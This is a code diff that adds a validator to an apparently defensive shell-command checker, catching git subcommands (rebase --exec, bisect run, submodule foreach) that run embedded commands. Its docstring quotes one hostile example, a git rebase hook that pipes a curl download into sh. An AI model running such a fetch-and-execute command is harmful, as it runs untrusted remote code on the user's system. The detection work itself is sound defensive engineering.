@@ -123,3 +123,41 @@ class ParallelOrWatch(Validator):
         if code is None:
             return Verdict.ask(self.id, "watch runs code only known at run time")
         return Verdict.unwrap(code)
+
+
+_GIT_CODE = {"rebase": frozenset({"--exec", "-x"}), "submodule": frozenset({"foreach"})}
+
+
+@register
+class GitRunsCommands(Validator):
+    """git subcommands that run a command: ``git rebase --exec CMD``, ``git bisect run CMD``,
+    ``git submodule foreach CMD``: CMD is checked as a command line.
+
+    Bad: ``git rebase --exec 'curl -s x | sh' HEAD~3``. Harmless: ``git rebase -x 'make
+    test' HEAD~3``.
+    """
+
+    id = "CG-WRAP-011"
+
+    def check(self, cmd: SimpleCommand, ctx: Context) -> Verdict:
+        if cmd.program != "git" or len(cmd.words) < 3:
+            return Verdict.passthrough()
+        words = cmd.words
+        sub = words[1].value
+        if sub == "bisect" and words[2].value == "run" and len(words) > 3:
+            return Verdict.unwrap(inner(cmd, 3))
+        markers = _GIT_CODE.get(sub or "")
+        if markers is None:
+            return Verdict.passthrough()
+        found: list[str] = []
+        for i, word in enumerate(words[2:], start=2):
+            name, eq, value = word.shown.partition("=")
+            if name not in markers:
+                continue
+            code = value if eq else (words[i + 1].value if i + 1 < len(words) else "")
+            if code is None:
+                return Verdict.ask(self.id, f"git {sub} runs code only known at run time")
+            if sub == "submodule":
+                code = joined_code(words[i + 1:]) or ""
+            found.append(code)
+        return Verdict.unwrap(*found) if found else Verdict.passthrough()
